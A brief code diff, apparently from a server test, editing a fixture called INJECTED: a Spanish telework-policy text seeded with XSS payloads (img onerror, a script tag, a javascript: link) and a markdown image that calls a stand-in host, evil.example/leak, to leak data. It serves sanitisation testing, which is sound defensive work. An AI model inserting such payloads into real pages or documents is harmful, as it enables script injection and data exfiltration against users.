@@ -16,7 +16,7 @@ from server.settings import ServerSettings
 
 INJECTED = """# Protocolo de teletrabajo
 
-El teletrabajo dura tres meses <img src=x onerror="window.pwned=1"> y se pide <script>window.pwned=1</script> al
+El teletrabajo dura tres meses `<img src=x onerror="window.pwned=1">` y se pide `<script>window.pwned=1</script>` al
 encargado ![foto](https://evil.example/leak?q=1) o en [la oficina](javascript:window.pwned=1). [C9]
 ===META===
 USED|1
